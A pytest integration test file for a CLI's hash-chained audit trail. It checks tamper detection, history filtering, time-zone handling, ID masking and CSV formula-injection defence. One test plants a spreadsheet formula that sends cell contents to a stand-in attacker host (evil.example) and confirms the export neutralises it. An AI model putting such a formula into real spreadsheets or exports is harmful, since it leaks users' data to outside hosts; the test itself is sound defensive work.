"""``creditsync audit verify / history``: the hash chain catches tampering; history filters and formats."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any, ClassVar

import pytest
from cli_support import invoke, json_lines, penalties, run_cli, write_rows
from pipeline_harness import Harness, leaked
from sqlalchemy import text

from creditsync.audit import trail
from creditsync.store.models import AuditEntry

pytestmark = pytest.mark.integration
DAY_ONE, DAY_TWO = date(2026, 3, 2), date(2026, 3, 9)


class FrozenClock(datetime):
    """What ``creditsync.audit.trail`` sees as ``datetime``: ``now()`` is a chosen moment."""

    moment: ClassVar[datetime] = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)

    @classmethod
    def now(cls, tz: Any = None) -> datetime:  # type: ignore[override]
        return cls.moment


@pytest.fixture
def two_days(harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Harness:
    """Day one: a market_supervision sync. Day two: a licence-less handover file of 3 penalties."""
    monkeypatch.setattr(trail, "datetime", FrozenClock)
    monkeypatch.setattr(FrozenClock, "moment", datetime.combine(DAY_ONE, datetime.min.time(), UTC))
    assert invoke("sync", "market_supervision").exit_code == 1
    monkeypatch.setattr(FrozenClock, "moment", datetime.combine(DAY_TWO, datetime.min.time(), UTC))
    path = write_rows(tmp_path / "handover.jsonl", penalties(3))
    assert invoke("push", "--category", "penalty", "--input", str(path)).exit_code == 0
    return harness


def history(*args: str) -> list[dict[str, Any]]:
    result = invoke("audit", "history", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return json_lines(result.stdout)


def total_entries(harness: Harness) -> int:
    return harness.count(AuditEntry)


def test_verify_passes_on_an_untouched_trail(harness: Harness) -> None:
    invoke("sync", "market_supervision")
    result = invoke("audit", "verify")
    assert result.exit_code == 0, result.output
    assert f"{total_entries(harness)} entries verified" in result.stdout


TAMPERING = {
    "altered": ("UPDATE audit_log SET details = :details WHERE id = :id", "entry {id} (", "was altered"),
    "removed": ("DELETE FROM audit_log WHERE id = :id", "entry {id} is missing", "removed"),
}


@pytest.mark.parametrize("how", sorted(TAMPERING))
def test_verify_names_the_tampered_entry(harness: Harness, how: str) -> None:
    invoke("sync", "market_supervision")
    victim = total_entries(harness) // 2
    sql, names, words = TAMPERING[how]
    with harness.gateway.store.transaction() as session:
        session.execute(text(sql), {"id": victim, "details": '{"status": "accepted"}'})

    result = invoke("audit", "verify")

    assert result.exit_code == 1
    out = " ".join(result.stdout.split())
    assert f"broken at entry {victim + (how == 'removed')}" in out
    assert names.format(id=victim) in out and words in out


def test_verify_notices_entries_cut_off_the_end(harness: Harness) -> None:
    invoke("sync", "market_supervision")
    last = total_entries(harness)
    with harness.gateway.store.transaction() as session:
        session.execute(text("DELETE FROM audit_log WHERE id > :id"), {"id": last - 3})

    result = invoke("audit", "verify")

    assert result.exit_code == 1
    assert f"entries after {last - 3} were removed" in " ".join(result.stdout.split())


def test_the_installed_verify_exits_0_then_1_after_tampering(harness: Harness) -> None:
    invoke("sync", "market_supervision")
    intact = run_cli("audit", "verify")
    with harness.gateway.store.transaction() as session:
        session.execute(text("UPDATE audit_log SET actor = 'someone-else' WHERE id = 7"))
    broken = run_cli("audit", "verify")
    assert (intact.returncode, broken.returncode) == (0, 1), intact.stdout + intact.stderr
    assert "entry 7" in broken.stdout


def test_history_filters_by_department_category_and_event(two_days: Harness) -> None:
    everything = history()
    assert len(everything) == total_entries(two_days)
    handover = history("--department", "manual_handover")
    assert handover and {e["department"] for e in handover} == {"manual_handover"}
    licences = history("--category", "license")
    assert licences and {e["category"] for e in licences} == {"license"}
    receipts = history("--status", "receipts_stored")
    assert {e["event"] for e in receipts} == {"receipts_stored"}
    acked = sum(e["details"]["acked"] for e in receipts)  # one entry a batch binds its answers
    assert acked == len(two_days.expected_published()) + 3
    both = history("--department", "market_supervision", "--category", "penalty",
                   "--status", "record_quarantined")
    assert len(both) == 4


@pytest.mark.parametrize(
    ("args", "days"),
    [
        (["--since", "2026-03-05"], {DAY_TWO}),
        (["--until", "2026-03-05"], {DAY_ONE}),
        (["--since", "2026-03-02", "--until", "2026-03-02"], {DAY_ONE}),  # until is inclusive
        (["--since", "2026/03/09"], {DAY_TWO}),
        (["--since", "2026-03-10"], set()),
    ],
)
def test_history_filters_by_date(two_days: Harness, args: list[str], days: set[date]) -> None:
    found = history(*args)
    assert {date.fromisoformat(e["ts"][:10]) for e in found} == days
    if days == {DAY_TWO}:
        assert {e["department"] for e in found} == {"manual_handover"}


def test_history_as_csv_has_the_same_entries(two_days: Harness) -> None:
    result = invoke("audit", "history", "--format", "csv", "--status", "receipts_stored")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["id", "ts", "event", "actor", "department", "category", "business_key",
                             "run_id", "details"]
    assert [int(r["id"]) for r in rows] == [e["id"] for e in history("--status", "receipts_stored")]


def test_history_rejects_a_bad_date(harness: Harness) -> None:
    result = invoke("audit", "history", "--since", "last week")
    assert result.exit_code == 2
    assert "not a date" in result.output


def test_history_and_trace_never_show_a_full_id_number(harness: Harness) -> None:
    person = harness.valid_penalty(0, party_type="01")
    invoke("sync", "market_supervision")
    shown = "".join(invoke("audit", "history", "--format", f).output for f in ("json", "csv", "table"))
    shown += invoke("audit", "trace", person["decision_no"]).output
    shown += invoke("audit", "trace", harness.document("L000024")).output  # quarantined: bad ID number
    assert person["decision_no"] in shown
    assert leaked(harness.id_numbers(), shown) == []


@pytest.mark.parametrize("harness_db", ["postgresql"], indirect=True)
def test_history_days_are_beijing_days_whatever_the_database_time_zone(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One clock: the CLI shows Beijing time (CREDITSYNC_DISPLAY_TZ), JSON and CSV as ISO with the offset,
    and its dates are the days shown, whatever zone the database session runs in."""
    with harness.gateway.store.engine.connect() as conn:
        name = conn.exec_driver_sql("SELECT current_database()").scalar()
        conn.exec_driver_sql(f"ALTER DATABASE \"{name}\" SET timezone TO 'UTC'")
        conn.commit()
    harness.gateway.store.engine.dispose()
    monkeypatch.setattr(trail, "datetime", FrozenClock)
    monkeypatch.setattr(FrozenClock, "moment", datetime(2026, 3, 9, 20, 0, tzinfo=UTC))  # 03-10 04:00 CST
    path = write_rows(tmp_path / "handover.jsonl", penalties(2))
    assert invoke("push", "--category", "penalty", "--input", str(path)).exit_code == 0

    on_the_tenth = history("--since", "2026-03-10", "--until", "2026-03-10")
    assert len(on_the_tenth) == total_entries(harness)
    assert {e["ts"] for e in on_the_tenth} == {"2026-03-10T04:00:00+08:00"}
    assert history("--until", "2026-03-09") == [] and history("--since", "2026-03-11") == []
    csv_rows = list(csv.DictReader(io.StringIO(invoke("audit", "history", "--format", "csv").stdout)))
    assert {row["ts"] for row in csv_rows} == {"2026-03-10T04:00:00+08:00"}
    table = invoke("audit", "history").stdout
    assert "2026-03-10 04:00:00" in table and "Beijing time" in table
    monkeypatch.setenv("CREDITSYNC_DISPLAY_TZ", "UTC")
    assert {e["ts"] for e in history("--since", "2026-03-09", "--until", "2026-03-09")} == {
        "2026-03-09T20:00:00+00:00"}


def test_formula_injection_in_the_audit_csv_export_is_neutralised(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An actor name (or any other field) that a spreadsheet would run is written as text."""
    monkeypatch.setenv("CREDITSYNC_ACTOR", '=HYPERLINK("http://evil.example/?"&A1,"open")')
    assert invoke("push", "--category", "penalty", "--input",
                  str(write_rows(tmp_path / "handover.csv", penalties(2)))).exit_code == 0

    result = invoke("audit", "history", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and {row["actor"] for row in rows} == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'}
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for value in row.values())


def test_the_history_table_shows_the_latest_entries_and_says_what_it_left_out(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A table of a whole trail (millions of entries) would never finish: it shows the latest ones, in
    chain order, and says so; CSV and JSON stream everything unless a limit is given."""
    from creditsync.cli import audit_cmds

    invoke("sync", "market_supervision")
    every = history()
    assert len(every) > 8
    last_ids = [str(entry["id"]) for entry in every[-5:]]

    monkeypatch.setattr(audit_cmds, "TABLE_LIMIT", 5)
    table = invoke("audit", "history")
    shown = [line.split()[1] for line in table.stdout.splitlines() if line.startswith("│")]
    assert shown == last_ids, table.stdout
    assert "only the latest 5 entries are shown" in table.stderr
    whole = invoke("audit", "history", "--limit", "0")
    assert len([line for line in whole.stdout.splitlines() if line.startswith("│ ")]) >= len(every)
    assert "only the latest" not in whole.stderr

    assert [entry["id"] for entry in history("--limit", "3")] == [entry["id"] for entry in every[-3:]]
    assert len(history()) == len(every)  # JSON: all of them unless asked
    exactly = invoke("audit", "history", "--limit", str(len(every)))
    assert "only the latest" not in exactly.stderr
